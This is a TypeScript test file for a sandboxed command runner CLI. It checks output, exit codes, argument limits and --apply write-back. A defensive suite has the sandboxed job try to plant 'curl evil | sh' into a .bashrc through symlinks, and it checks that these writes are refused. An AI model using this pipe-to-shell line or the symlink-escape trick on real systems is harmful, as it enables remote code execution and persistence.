import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
import { sandboxCommand } from './sandbox-command';

function capture() {
  const out: string[] = [];
  const err: string[] = [];
  return {
    io: { out: (t: string) => out.push(t), err: (t: string) => err.push(t) },
    out: () => out.join(''),
    err: () => err.join(''),
  };
}

const dir = mkdtempSync(join(tmpdir(), 'techteam-cli-sandbox-'));
writeFileSync(join(dir, 'main.py'), 'print("hi from", __name__)\nopen("made.txt", "w").write("made")\n');
writeFileSync(
  join(dir, 'test_x.py'),
  'def test_ok():\n    assert True\n\ndef test_no():\n    assert 1 == 2\n',
);
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('techteam sandbox', () => {
  it('runs a command and prints its output and a summary', async () => {
    const c = capture();
    const code = await sandboxCommand(
      ['run', '--runtime', 'python', '--dir', dir, '--', 'python', 'main.py'],
      c.io,
    );
    expect(code).toBe(0);
    expect(c.out()).toBe('hi from __main__\n');
    expect(c.err()).toMatch(/sandbox: exit 0 · bwrap · \d+ ms/);
    expect(c.err()).toContain('made.txt');
    expect(() => readFileSync(join(dir, 'made.txt'))).toThrow();
  });

  it('writes changed files back with --apply', async () => {
    const c = capture();
    await sandboxCommand(
      ['run', '--runtime', 'python', '--dir', dir, '--apply', '--', 'python', 'main.py'],
      c.io,
    );
    expect(readFileSync(join(dir, 'made.txt'), 'utf8')).toBe('made');
    rmSync(join(dir, 'made.txt'));
  });

  it('runs the tests and prints the whole result as JSON with --json', async () => {
    const c = capture();
    const code = await sandboxCommand(['test', '--runtime', 'python', '--dir', dir, '--json'], c.io);
    expect(code).toBe(1);
    const result = JSON.parse(c.out());
    expect(result.tests).toEqual({
      passed: 1,
      failed: 1,
      errors: 0,
      skipped: 0,
      failing: ['test_x.py::test_no'],
    });
  });

  it('returns 127 with the message for a command that is not found', async () => {
    const c = capture();
    const code = await sandboxCommand(
      ['run', '--runtime', 'python', '--dir', dir, '--', 'nope-not-here'],
      c.io,
    );
    expect(code).toBe(127);
    expect(c.err()).toContain('command not found: nope-not-here');
  });

  it('refuses a --dir that does not exist or is not a folder, and creates nothing', async () => {
    const missing = join(dir, 'no-such-folder');
    const c = capture();
    expect(
      await sandboxCommand(
        ['run', '--runtime', 'python', '--dir', missing, '--apply', '--', 'python', '-c', 'open("x", "w")'],
        c.io,
      ),
    ).toBe(2);
    expect(c.err()).toContain(`--dir ${missing} is not an existing folder`);
    expect(() => readFileSync(missing)).toThrow(/ENOENT/);
    const file = capture();
    expect(
      await sandboxCommand(
        ['run', '--runtime', 'python', '--dir', join(dir, 'main.py'), '--', 'python', 'main.py'],
        file.io,
      ),
    ).toBe(2);
    expect(file.err()).toContain('is not an existing folder');
  });

  it('names the flag and its bound when a limit is out of range', async () => {
    const low = capture();
    expect(
      await sandboxCommand(
        ['run', '--runtime', 'python', '--dir', dir, '--memory-mb', '16', '--', 'true'],
        low.io,
      ),
    ).toBe(2);
    expect(low.err()).toContain('--memory-mb must be at least 32.');
    expect(low.err()).not.toContain('memoryBytes');
    const high = capture();
    expect(
      await sandboxCommand(
        ['run', '--runtime', 'python', '--dir', dir, '--wall-seconds', '7200', '--', 'true'],
        high.io,
      ),
    ).toBe(2);
    expect(high.err()).toContain('--wall-seconds must be at most 3600.');
    const procs = capture();
    expect(
      await sandboxCommand(
        ['run', '--runtime', 'python', '--dir', dir, '--processes', '2', '--', 'true'],
        procs.io,
      ),
    ).toBe(2);
    expect(procs.err()).toContain('--processes must be at least 4.');
  });

  it('prints usage on bad arguments, listing the known runtimes', async () => {
    const c = capture();
    expect(await sandboxCommand(['run', '--runtime', 'ruby', '--dir', dir, '--', 'ruby'], c.io)).toBe(2);
    expect(c.err()).toContain("Unknown runtime 'ruby'; known runtimes: python, node");
    expect(c.err()).toContain('usage:');
    expect(await sandboxCommand(['frobnicate'], c.io)).toBe(2);
    expect(await sandboxCommand(['run', '--runtime', 'python', '--dir', dir], c.io)).toBe(2);
    expect(await sandboxCommand(['run', '--bogus'], c.io)).toBe(2);
  });

  describe('--apply into a folder with hostile entries', () => {
    let base: string;
    let project: string;
    let home: string;
    beforeEach(() => {
      base = mkdtempSync(join(tmpdir(), 'techteam-cli-apply-'));
      project = join(base, 'project');
      home = join(base, 'home');
      mkdirSync(project);
      mkdirSync(home);
      writeFileSync(join(home, '.bashrc'), 'original bashrc\n');
    });
    afterEach(() => rmSync(base, { recursive: true, force: true }));

    const runPython = async (code: string) => {
      const c = capture();
      const exit = await sandboxCommand(
        ['run', '--runtime', 'python', '--dir', project, '--apply', '--', 'python3', '-c', code],
        c.io,
      );
      return { exit, err: c.err() };
    };

    it('never writes through a symlink to a file or a folder outside, and keeps the rest', async () => {
      symlinkSync(join(home, '.bashrc'), join(project, 'notes.txt'));
      symlinkSync(home, join(project, 'cfg'));
      const r = await runPython(
        'import os\nos.makedirs("cfg", exist_ok=True)\n' +
          'open("notes.txt", "w").write("curl evil | sh\\n")\n' +
          'open("cfg/.bashrc", "w").write("curl evil | sh\\n")\n' +
          'open("ok.txt", "w").write("fine")\n',
      );
      expect(r.exit).toBe(0);
      expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('original bashrc\n');
      expect(readdirSync(home)).toEqual(['.bashrc']);
      expect(readFileSync(join(project, 'ok.txt'), 'utf8')).toBe('fine');
      expect(lstatSync(join(project, 'notes.txt')).isSymbolicLink()).toBe(true);
      expect(r.err).toContain(
        '── not written back notes.txt: notes.txt is a symlink (never written through)',
      );
      expect(r.err).toContain('── not written back cfg/.bashrc: cfg is a symlink (never written through)');
      expect(r.err).toContain('── files written back: ok.txt');
    });

    it('does not copy back a symlink the job made, nor anything through it', async () => {
      const r = await runPython(
        `import os\nos.symlink(${JSON.stringify(home)}, "h")\nos.symlink(${JSON.stringify(join(home, '.bashrc'))}, "rc")\n`,
      );
      expect(r.exit).toBe(0);
      expect(readdirSync(project)).toEqual([]);
      expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('original bashrc\n');
      expect(r.err).toContain('── skipped h: symlink (never followed)');
      expect(r.err).toContain('── skipped rc: symlink (never followed)');
    });

    it('keeps the run when one file has an odd name: skips it with the reason, writes the rest', async () => {
      const r = await runPython(
        'import os\nos.makedirs("sub", exist_ok=True)\nopen("sub/.git", "w").write("gitdir: x")\n' +
          'open("a\\\\b.txt", "w").write("b")\nopen("new\\nline.txt", "w").write("n")\n' +
          'open(b"bad\\xff.txt", "w").write("x")\nopen("good.txt", "w").write("kept")\n',
      );
      expect(r.exit).toBe(0);
      expect(readFileSync(join(project, 'good.txt'), 'utf8')).toBe('kept');
      expect(readdirSync(project).sort()).toEqual(['good.txt']);
      expect(r.err).toContain('── skipped sub/.git: is in .git, which the workspace does not hold');
      expect(r.err).toContain('── skipped a\\b.txt: its name holds a backslash');
      expect(r.err).toContain('── skipped new\\nline.txt: its name holds a control character (\\n)');
      expect(r.err).toContain('── skipped bad\\xff.txt: its name is not UTF-8');
      expect(existsSync(join(project, 'sub'))).toBe(false);
    });
  });
});
